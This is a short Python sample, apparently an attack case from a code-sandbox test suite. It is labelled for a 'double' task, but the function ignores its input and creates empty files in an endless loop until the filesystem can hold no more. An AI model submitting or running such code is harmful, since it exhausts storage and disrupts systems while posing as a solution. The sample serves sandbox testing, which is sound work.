# task: double
# outcome: exception
# attack: empty files until none can be made
def double(x):
    number = 0
    while True:
        number += 1
        with open(f"n{number}", "wb"):
            pass
